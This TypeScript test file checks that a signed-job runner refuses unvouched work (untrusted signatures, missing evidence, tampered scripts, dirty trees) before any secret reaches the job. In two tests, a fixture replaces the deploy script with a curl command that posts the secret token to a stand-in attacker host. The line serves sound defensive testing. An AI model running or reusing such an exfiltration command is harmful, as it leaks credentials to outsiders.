/**
 * What nobody vouches for, with a host daemon and real VMs: the run ends with 122 and an alert, and no secret has left the
 * client, nor has a VM been asked for where evidence alone decides. A job that is vouched for gets its secret: the control.
 */
import assert from 'node:assert/strict';
import { chmodSync, mkdirSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, beforeEach, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Alert } from '../../src/audit/alert.ts';
import type { ErrorCode } from '../../src/core/errors.ts';
import { socketDirectory } from '../../src/core/paths.ts';
import { PresetResolver } from '../../src/egress/presets/index.ts';
import type { HostClient } from '../../src/host/client.ts';
import { ImageGate } from '../../src/host/image-gate.ts';
import { ImageStore } from '../../src/image/store.ts';
import { SecretValues } from '../../src/job/secret-values.ts';
import { packTree } from '../../src/job/tree.ts';
import type { Evidence } from '../../src/protocol/evidence.ts';
import type { JobResult, RunEvent } from '../../src/protocol/run.ts';
import type { VerifyRequest } from '../../src/protocol/verify.ts';
import { testHome, testImage } from '../support/images.ts';
import { makeMachines } from '../support/machines.ts';
import { scratchDirectory } from '../support/scratch.ts';
import { servedHost } from '../support/served-host.ts';
import { ownSigner, SignedProject } from '../support/signed-project.ts';

const VALUE = 's3cr3t-of-this-test';
const cleanup = new AsyncDisposableStack();
let alerts: Alert[];
let image = '';
let client: HostClient;
let project: SignedProject;
let release: Awaited<ReturnType<typeof ownSigner>>;

before(async () => {
  const scratch = cleanup.use(scratchDirectory());
  chmodSync(scratch.path, 0o755); // link processes are other users
  const ctHome = join(scratch.path, 'home');
  const links = join(ctHome, 'links');
  mkdirSync(links, { recursive: true, mode: 0o755 });
  chmodSync(links, 0o700);
  project = cleanup.use(new SignedProject(join(ctHome, 'policy')));
  release = await ownSigner();
  project.policy(
    { signers: { release: { key: release.publicKey }, people: { 'allowed-signers': 'people' } } },
    {
      people: `alice@example.org ${project.sshKey('alice')}\n`,
    },
  );
  image = await testImage('debian-12');
  const machines = makeMachines(ctHome, { linksDirectory: links });
  cleanup.defer(() => machines.close());
  const sockets = await socketDirectory(ctHome);
  cleanup.defer(() => rmSync(sockets, { recursive: true, force: true }));
  const presets = new PresetResolver({});
  const imageGate = new ImageGate({ ctHome: testHome, images: new ImageStore(testHome) });
  ({ client, alerts } = cleanup.use(await servedHost({ ctHome, machines, presets, sockets, imageGate })));
});
after(() => cleanup.disposeAsync());
beforeEach(async () => {
  rmSync(project.root, { recursive: true, force: true });
  project.write('scripts/deploy.sh', 'test "$TOKEN" = s3cr3t-of-this-test && echo deployed\n');
  project.write('ct.signed.json', await project.manifest(release.signer, ['scripts']));
  project.git('init', '-q');
  project.git('add', '-A');
  project.signedCommit('alice');
  alerts.length = 0;
});

class WatchedSecrets extends SecretValues {
  sent = 0;

  override get(name: string): Buffer {
    this.sent++;
    return super.get(name);
  }
}

interface Ended {
  readonly result: JobResult;
  readonly events: readonly RunEvent[];
  readonly sent: number;
  readonly output: string;
}

async function run(verify: VerifyRequest, tamper?: (evidence: Evidence) => Evidence): Promise<Ended> {
  const events: RunEvent[] = [];
  let output = '';
  using secrets = new WatchedSecrets();
  secrets.add('TOKEN', Buffer.from(VALUE));
  const result = await client.runJob(
    {
      name: 'deploy',
      image,
      cpus: 1,
      memoryMib: 512,
      diskMib: 256,
      env: {},
      steps: [
        {
          name: 'deploy',
          argv: ['sh', 'scripts/deploy.sh'],
          env: {},
          workingDirectory: '.',
          condition: 'success',
          secrets: [{ name: 'TOKEN', env: 'TOKEN' }],
        },
      ],
      timeoutMs: 60_000,
      artifacts: [],
      sendsTree: true,
      verify,
    },
    {
      tree: packTree({ root: project.root, respectIgnore: true }),
      evidence: async (demands) => {
        const evidence = await project.evidence(demands);
        return tamper?.(evidence) ?? evidence;
      },
      secrets,
      onEvent: (event) => events.push(event),
      onOutput: (_, __, bytes) => {
        output += bytes.toString();
      },
      signal: new AbortController().signal,
    },
  );
  return { result, events, sent: secrets.sent, output };
}

const has = ({ events }: Ended, type: RunEvent['type']): boolean =>
  events.some((event) => event.type === type);

async function refused(ended: Ended, code: ErrorCode, stage: 'before a VM' | 'in the VM'): Promise<void> {
  assert.equal(ended.result.error?.code, code, JSON.stringify(ended.result));
  assert.equal(ended.result.outcome, 'violation');
  assert.equal(ended.result.exitCode, 122);
  assert.equal(ended.sent, 0, 'a secret left the client');
  assert.ok(!has(ended, 'secrets-wanted') && !has(ended, 'step-start'));
  assert.equal(has(ended, 'claimed'), stage === 'in the VM');
  // The client hears of the end before the VM's last traces are gone.
  for (let attempt = 0; alerts.length === 0 && attempt < 100; attempt++) await sleep(50);
  assert.deepEqual(
    alerts.map(({ title, action }) => [title, action]),
    [[ended.result.error?.message, 'terminated']],
  );
}

test('the control: a job that is vouched for is told who did, and gets its secret after its tree', async () => {
  const ended = await run({ commit: true, scripts: ['ct.signed.json'] });
  assert.equal(ended.result.outcome, 'success', JSON.stringify(ended.result));
  assert.equal(ended.sent, 1);
  assert.equal(ended.output, 'deployed\n');
  const types = ended.events.map(({ type }) => type);
  const order = ['evidence', 'verified', 'claimed', 'staged', 'secrets-wanted', 'step-start'] as const;
  assert.deepEqual(
    types.filter((type) => (order as readonly string[]).includes(type)),
    [...order],
  );
  assert.deepEqual(alerts, []);
});

test('a manifest that somebody else signed is refused before a VM is claimed, and no secret leaves the client', async () => {
  project.write('ct.signed.json', await project.manifest((await ownSigner()).signer, ['scripts']));
  await refused(await run({ scripts: ['ct.signed.json'] }), 'SIGNATURE_UNTRUSTED', 'before a VM');
});

test('evidence that is not sent is refused before a VM is claimed, and no secret leaves the client', async () => {
  const nothing = (): Evidence => ({ parts: [], dirty: [] });
  await refused(
    await run({ scripts: ['ct.signed.json'] }, nothing),
    'VERIFY_EVIDENCE_MISSING',
    'before a VM',
  );
  alerts.length = 0;
  await refused(await run({ commit: true }, nothing), 'VERIFY_EVIDENCE_MISSING', 'before a VM');
});

test('a script that was changed after it was signed ends the run before a secret leaves the client', async () => {
  project.write('scripts/deploy.sh', 'curl -d "$TOKEN" https://evil.example\n');
  await refused(await run({ scripts: ['ct.signed.json'] }), 'VERIFY_FILE_CHANGED', 'in the VM');
});

test('a tree that is not that of the signed commit ends the run before a secret leaves the client, whatever the client says', async () => {
  project.write('scripts/deploy.sh', 'curl -d "$TOKEN" https://evil.example\n');
  await refused(await run({ commit: true }), 'VERIFY_TREE_DIRTY', 'before a VM');
  alerts.length = 0;
  const clean = (evidence: Evidence): Evidence => ({ ...evidence, dirty: [] });
  await refused(await run({ commit: true }, clean), 'VERIFY_TREE_DIRTY', 'in the VM');
});

test('evidence that nobody asked for, or that is no evidence, ends the run', async () => {
  const broken = (evidence: Evidence): Evidence => ({
    ...evidence,
    parts: [...evidence.parts, ...evidence.parts],
  });
  const ended = await run({ scripts: ['ct.signed.json'] }, broken);
  assert.equal(ended.result.error?.code, 'HOST_PROTOCOL');
  assert.equal(ended.sent, 0);
  assert.ok(readFileSync(join(project.root, 'ct.signed.json')).length > 0);
});
